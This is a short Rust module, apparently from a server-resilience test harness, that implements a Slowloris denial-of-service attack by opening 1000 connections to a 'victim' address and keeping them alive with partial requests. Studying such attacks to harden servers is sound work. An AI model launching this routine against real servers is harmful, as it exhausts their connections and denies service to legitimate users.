//! Slowloris: a thousand requests of which a byte comes every second.

use super::held::Held;
use super::{Launched, beginning};
use crate::servers::raw::open;
use crate::servers::victim::Victim;
use std::io::Write;
use std::time::Instant;

const CONNECTIONS: usize = 1000;

pub(super) fn launch(victim: &Victim) -> Launched {
    let mut streams = Vec::new();
    for _ in 0..CONNECTIONS {
        let mut stream = open(victim.address())?;
        stream.write_all(beginning(victim.kind))?;
        streams.push(stream);
    }
    Ok(Held { streams, drip: Some(b'a'), last_drip: Some(Instant::now()) })
}
